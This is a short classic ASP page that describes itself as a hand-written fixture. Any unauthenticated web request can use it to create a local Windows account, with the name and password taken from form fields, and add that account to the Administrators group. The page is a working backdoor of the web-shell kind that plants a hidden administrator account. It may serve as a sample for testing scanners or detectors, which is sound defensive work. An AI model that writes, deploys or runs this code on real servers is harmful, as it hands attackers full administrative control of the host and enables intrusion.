<%
' Hand-written fixture: creates a local Windows account named by the
' request and adds it to the Administrators group (ADSI).
Set net = Server.CreateObject("WScript.Network")
Set computer = GetObject("WinNT://" & net.ComputerName & ",computer")
Set u = computer.Create("user", Request.Form("name"))
u.SetPassword Request.Form("pass")
u.SetInfo
Set g = GetObject("WinNT://" & net.ComputerName & "/Administrators,group")
g.Add "WinNT://" & net.ComputerName & "/" & Request.Form("name")
Response.Write "done"
%>
